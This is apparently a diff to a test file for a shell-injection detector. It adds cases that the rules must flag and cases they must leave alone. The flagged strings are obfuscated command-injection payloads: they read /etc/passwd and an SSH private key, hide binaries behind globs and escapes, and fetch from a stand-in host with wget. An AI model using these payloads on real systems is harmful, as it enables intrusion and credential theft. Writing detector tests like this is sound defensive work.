@@ -178,6 +178,20 @@ test('does not flag Markdown code spans, prices, templates, flags and shell-look
   for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
 });
 
+test('detects ANSI-C quoted assignments, $(< file), located commands, cmd call and one-wildcard program globs', () => {
+  const attacks = [
+    "x;X=$'\\x69d';$X", "x;c=$'\\143at';$c /etc/passwd", 'x;p=$(which id);$p', 'x;p=`which whoami`;$p',
+    '$(</etc/passwd)', 'x;echo $(< ~/.ssh/id_rsa)', 'x|call whoami', 'x&call net user', 'x;rev<<<di|sh',
+    'x;/bin/ba?h -c id', 'x;/usr/bin/c*t /etc/passwd', 'x;/bin/w?oami', 'x|/usr/bin/wge? http://evil.example/s',
+  ];
+  for (const a of attacks) assert.notDeepEqual(matchAll(rules, a), [], `missed: ${a}`);
+  const benign = [
+    'x;rev up the engine', 'call me maybe; call us', 'Call Mom; call Dad at 5', 'what is $(< 5)', "a = $'s value",
+    'list: /bin/l?', 'a;/bin/x?z', 'see /usr/bin/*.sh; /usr/bin/foo?', 'which one? $(which of these)', 'rev. 2; rev 3',
+  ];
+  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
+});
+
 test('shellNormalize removes quote, backslash and IFS evasions', () => {
   assert.equal(shellNormalize("c''at"), 'cat');
   assert.equal(shellNormalize('c\\at'), 'cat');
@@ -199,6 +213,7 @@ test('linear time on 64 KiB pathological input', () => {
     k64('a$u'), k64('a${u}'), k64('${a:0:1}'), k64('${a%%'), k64('%a:~0,1%'), k64(':~'), k64('>& /dev/tcp/'),
     '>/dev/tcp/' + 'a'.repeat(65526), k64('"/inet/tcp/1/'), k64(';$0'), k64(';${!#}'), k64(';cat >'), k64('x`'), k64('a`id`'),
     '-' + k64(' -o'), '-' + k64(' -'), k64('-o /'), k64(';iex('),
+    k64("a=$'\\x69';"), k64('$(<'), k64('$( < /'), k64(';/bin/*'), k64(';/bin/' + '*?'.repeat(20) + ' '), k64('|call '),
   );
   for (const s of inputs) {
     const ms = timeAll(rules, s);
